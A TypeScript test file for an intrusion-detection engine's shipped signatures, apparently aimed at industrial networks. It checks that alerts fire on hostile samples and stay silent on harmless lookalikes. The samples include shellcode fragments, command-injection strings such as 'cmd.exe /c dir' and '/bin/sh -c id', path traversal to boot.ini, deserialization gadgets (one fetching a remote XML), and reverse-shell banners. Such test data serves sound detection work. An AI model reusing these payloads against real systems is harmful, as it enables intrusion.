/** The signatures in `data/signatures`: what they find in any pieces, and what they must not find. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { hex } from '#bytes/hex'
import { shippedSignatures } from '#engine-host/shipped-signatures'
import type { ScriptStep } from '#model/script'
import { captureOf } from '#sdk/test-kit/stage'
import { relayStopped, staged, windowsPrompt } from '../attacks/shipped-payloads.ts'
import { analyse } from '../whole-analysis.ts'

type Transport = 'tcp' | 'udp'
interface Conversation {
  readonly lines: readonly ScriptStep[]
  readonly transport?: Transport
  /** Default: one that belongs to no protocol. */
  readonly port?: number
}

const PORT = 12_397
const text = (letters: string) => Uint8Array.from(letters, (letter) => letter.charCodeAt(0))
const wide = (letters: string) => Array.from(letters, (letter) => `${letter}\0`).join('')
const bytesApart = (bytes: Uint8Array, side: 'client' | 'server' = 'client'): readonly ScriptStep[] =>
  Array.from(bytes, (byte) => [side, Uint8Array.of(byte)] as const)

/** `rule severity signature`, sorted; what other rules raise is left out. */
async function found({ lines, transport = 'tcp', port = PORT }: Conversation): Promise<readonly string[]> {
  const script = { name: 'attack', over: { transport, port }, lines }
  const pcap = captureOf(script, () => assert.fail('expected no carrier'))
  const { alerts } = await analyse(pcap, 'attack', { chunkBytes: 65_536, sliceBytes: undefined })
  return alerts
    .flatMap(({ rule, severity, what, count }) => {
      const sid = /signature (\d+)/.exec(what)?.[1]
      return sid === undefined ? [] : [`${rule} ${severity} ${sid} ×${count}`]
    })
    .sort()
}
async function hits(lines: readonly ScriptStep[]): Promise<number> {
  const script = { name: 'talk', over: { transport: 'tcp', port: PORT }, lines } as const
  const pcap = captureOf(script, () => assert.fail('expected no carrier'))
  const { counters } = await analyse(pcap, 'talk', { chunkBytes: 65_536, sliceBytes: undefined })
  return counters.signatureHits ?? 0
}
const client = (bytes: Uint8Array | string): readonly ScriptStep[] => [
  ['client', typeof bytes === 'string' ? text(bytes) : bytes],
]

const SHELLCODE = hex('eb069090 38067f00 dac1 d97424f4 5a 33c9 b156 31421a 83eafc')
const PATH = '\x01\0..\\..\\..\\boot.ini\0'
const COMMAND = '\x18\0\0\0EXECUTE\0cmd.exe /c dir'
const filling = text('A'.repeat(300))

describe('shipped signatures', () => {
  const signatures = shippedSignatures()

  test('are complete: own ids, technique, reported anomaly, one alert for each flow', () => {
    assert.ok(signatures.length >= 20)
    for (const { sid, techniques, anomaly, classification, severity, threshold, application } of signatures) {
      assert.ok(sid >= 9_100_001 && sid <= 9_199_999, `sid ${sid}`)
      assert.match(techniques.join(), /^T\d{4}/, `technique of ${sid}`)
      assert.ok(
        ['exploit', 'open-shell', 'staged-program', 'text-command'].includes(anomaly),
        `anomaly of ${sid}`,
      )
      assert.notEqual(classification, '', `classtype of ${sid}`)
      assert.deepEqual([severity, application], ['critical', 'failed'], `${sid}`)
      assert.deepEqual([threshold?.kind, threshold?.track, threshold?.count], ['limit', 'flow', 1], `${sid}`)
    }
  })

  const attacks: readonly (readonly [when: string, bytes: Uint8Array, expected: string])[] = [
    ['shellcode by FNSTENV', SHELLCODE, '9100010'],
    ['shellcode of Windows, 32 bits', hex('fce8 82000000 60 89e5 31c0 648b5030'), '9100011'],
    ['shellcode of Windows, 64 bits', hex('fc4883e4f0e8c0000000'), '9100012'],
    ['shellcode that calls itself', hex('9090 e8ffffffff c0 5e 9090'), '9100013'],
    ['encoded shellcode, 64 bits', hex('488d05efffffff48bb11223344'), '9100014'],
    ['shellcode in letters', text('xxjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJIxx'), '9100015'],
    ['shellcode in capital letters', text('VTX30VX4AP0A3HH0A00ABAABTAAQ2AB2BB0BBXP8ACJJI'), '9100016'],
    ['shellcode of Linux', text('\x31\xc0\x50h//shh/bin\x89\xe3\x50'), '9100017'],
    ['a command line', text(COMMAND), '9100020'],
    [
      'a Java object with a transformer',
      text('t3 12\xac\xed\0\x05sr\0:org.apache.commons.collections.functors.InvokerTransformer'),
      '9100030',
    ],
    [
      'a class of Spring in OpenWire',
      text(
        '\0\0\0\x77\x1f\0\0\0\x01\x01\x01\0Borg.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x1fhttp://198.51.100.7/p.xml',
      ),
      '9100031',
    ],
    [
      'a .NET object with a delegate',
      text('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c System.DelegateSerializationHolder'),
      '9100032',
    ],
    ['a command line in UTF-16', text(`\x20\0\0\0${wide('cmd.exe /c dir')}\0\0`), '9100020'],
    ['a PowerShell command line', text('\x01\0\0\0powershell.exe -enc SQBFAFgA'), '9100021'],
    ['a command line of Unix', text('\x01\0\0\0/bin/sh -c id'), '9100022'],
    ['a path to a system file', text(PATH), '9100023'],
    ['a path to a system file in UTF-16', text(`\x20\0\0\0${wide('..\\..\\..\\boot.ini')}\0\0`), '9100023'],
    ['a path to a program', text('\0\0../../../../a.exe\0'), '9100024'],
  ]
  for (const [when, bytes, sid] of attacks) {
    const expected = [`exploit-attempted critical ${sid} ×1`]
    test(`${when}, in one piece, in two, byte by byte, in a datagram`, async () => {
      assert.deepEqual(await found({ lines: client(bytes) }), expected)
      for (const at of [1, bytes.length >> 1, bytes.length - 1])
        assert.deepEqual(
          await found({ lines: [...client(bytes.subarray(0, at)), ...client(bytes.subarray(at))] }),
          expected,
          `cut at ${at}`,
        )
      assert.deepEqual(await found({ lines: bytesApart(bytes) }), expected, 'byte by byte')
      assert.deepEqual(await found({ lines: client(bytes), transport: 'udp' }), expected, 'datagram')
    })
  }

  test('a text command of a device, in one piece and byte by byte, once a flow', async () => {
    const commands = (bytes: (text: string) => readonly ScriptStep[]) => [
      ...bytes('HELLO 1\r\n'),
      ['server', text('OK\r\n')] as ScriptStep,
      ...bytes('set rate=999\r\n'),
      ['server', text('OK\r\n')] as ScriptStep,
      ...bytes('RESET pump\r\n'),
    ]
    for (const lines of [commands(client), commands((line) => bytesApart(text(line)))])
      assert.equal(await hits(lines), 2)
    for (const harmless of ['STATUS SET 1\r\n', 'SETTINGS?\r\n', 'SET\x01\x02\r\n', 'SET rate'])
      assert.equal(await hits(client(harmless)), 0, harmless)
  })

  test('a path and a command in one request are both reported', async () => {
    const lines: readonly ScriptStep[] = [
      ...client(`\x01\0\0\0${'..\\'.repeat(12)}windows\\system32\\cmd.exe" /c echo x\0`),
      ['server', hex('00')],
    ]
    assert.deepEqual(
      (await found({ lines })).map((alert) => alert.split(' ')[2]),
      ['9100020', '9100023', '9100024'],
    )
  })

  test('shellcode behind other data, and at the port of another protocol', async () => {
    const lines = [filling, filling, SHELLCODE].flatMap(client)
    assert.equal((await found({ lines, port: 910 })).length, 1)
    assert.equal((await found({ lines: bytesApart(text(PATH)), port: 502 })).length, 1)
  })

  test('what is sent after the attack is still read', async () => {
    const write = hex('0001 0000 0006 01 05 0001 ff00')
    const lines: readonly ScriptStep[] = [...client(PATH), ['client', write], ['server', write]]
    const pcap = captureOf({ name: 'attack', over: { transport: 'tcp', port: PORT }, lines }, () =>
      assert.fail(),
    )
    const { links } = await analyse(pcap, 'attack', { chunkBytes: 65_536, sliceBytes: undefined })
    assert.ok(links.some(({ protocol, operations }) => protocol === 'modbus' && operations.length > 0))
  })

  test('each request has a beginning of its own', async () => {
    const long = client('A'.repeat(2000))
    const response: ScriptStep = ['server', text('ok')]
    assert.deepEqual(await found({ lines: [...long, ...client(PATH)] }), [])
    assert.equal((await found({ lines: [...long, response, ...client(PATH)] })).length, 1)
  })

  test('no attack: other order of bytes, pages, project files, monitors, servers, later bytes', async () => {
    const none: readonly Conversation[] = [
      ...['d97424f4 90909090', 'dac1 d97424f8 5a', 'fce8 82000000 61', 'fc4883e4f0ff'].map((code) => ({
        lines: client(hex(code)),
      })),
      { lines: client('<HintPath>..\\..\\..\\packages\\x.exe</HintPath>') },
      { lines: client('call cmd.exe /c build') },
      { lines: client('\0\0..\\..\\..\\include\\motor.h\0') },
      { lines: client('\0cmd\0/c') },
      { lines: client(`\xff\xfe${wide('call cmd.exe /c build')}`) },
      { lines: client('ZBXD\x01\x1c\0\0\0\0\0\0\0system.run["cmd.exe /c dir"]') },
      { lines: [['server', text(PATH)]] },
      { lines: [...Array.from({ length: 40 }, () => client('A'.repeat(1000))).flat(), ...client(SHELLCODE)] },
      // Datagrams are requests of their own.
      { lines: [...client(PATH.slice(0, 8)), ...client(PATH.slice(8))], transport: 'udp' },
    ]
    for (const conversation of none) assert.deepEqual(await found(conversation), [])
  })

  test('one alert for many attacks of a connection', async () => {
    const lines = Array.from({ length: 20 }, () => [
      ...client(COMMAND),
      ['server', text('ok')] as const,
    ]).flat()
    assert.deepEqual(await found({ lines }), ['exploit-attempted critical 9100020 ×1'])
  })
})

describe('the denial-of-service packet of SIPROTEC EN100', () => {
  const over = (bytes: Uint8Array) => found({ lines: client(bytes), transport: 'udp', port: 50_000 })

  test('is an exploit, with its CVE', async () => {
    assert.deepEqual(await over(relayStopped), ['exploit-attempted critical 9100001 ×1'])
  })

  test('any other datagram is none', async () => {
    for (const other of [
      relayStopped.slice(0, 17),
      relayStopped.with(5, 1),
      relayStopped.with(0, 0x12),
      relayStopped.with(17, 0),
      Uint8Array.of(...relayStopped, 0),
    ])
      assert.deepEqual(await over(other), [])
  })
})

describe('command shells', () => {
  const shells: readonly (readonly [string, string])[] = [
    [String.fromCharCode(...windowsPrompt), '9100100'],
    ['Windows PowerShell\r\nCopyright (C) 2016 Microsoft', '9100101'],
    ['PS C:\\Users\\operator> ', '9100102'],
    ['bash: no job control in this shell\nbash-4.2$ ', '9100103'],
    ["/bin/sh: 0: can't access tty; job control turned off\n$ ", '9100104'],
    ['uid=0(root) gid=0(root) groups=0(root)\n', '9100105'],
    ['Linux plc7 6.1.0-18-amd64 #1 SMP Debian\n', '9100106'],
    [String.fromCharCode(...staged), '9100110'],
  ]
  for (const [first, sid] of shells)
    test(`${sid}: at the beginning of either side, in any pieces`, async () => {
      const expected = [`shell-over-network critical ${sid} ×1`]
      for (const side of ['client', 'server'] as const) {
        assert.deepEqual(await found({ lines: [[side, text(first)]], port: 4321 }), expected, side)
        assert.deepEqual(await found({ lines: bytesApart(text(first), side), port: 4321 }), expected, 'bytes')
      }
    })

  test('no shell: greetings of servers, directories, sentences, the same text later on', async () => {
    for (const other of [
      'Microsoft ESMTP MAIL Service ready, Version: 10.0.17763.1697 and some more words to make it long enough',
      'MZ and other words',
      'uid=operator,ou=people,dc=plant,dc=example and so on'.repeat(3),
      'Linux is a kernel. '.repeat(9),
      `some output first\n${String.fromCharCode(...windowsPrompt)}`,
    ])
      assert.deepEqual(await found({ lines: [['client', text(other)]], port: 4321 }), [], other)
  })
})
